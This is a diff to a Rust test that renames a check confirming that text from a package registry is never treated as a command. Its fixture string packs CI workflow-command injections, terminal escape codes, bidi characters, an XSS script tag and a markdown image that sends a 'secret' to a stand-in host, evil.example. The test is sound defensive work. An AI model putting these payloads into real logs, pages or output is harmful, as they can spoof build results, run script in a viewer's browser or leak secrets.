@@ -174,7 +174,7 @@ mod tests {
     }
 
     #[test]
-    fn nobody_obeys_what_a_registry_says() {
+    fn text_from_a_registry_is_never_a_command() {
         let foreign = "::error::owned\r\n::set-output name=result::passed\n##[error]##vso[task.x]\u{1b}[31m\u{9b}31m\
                        \u{202e}\u{200b}<script>alert(1)</script>|`![x](https://evil.example/a?secret=PLANTED)";
         for (format, output) in formats(foreign) {
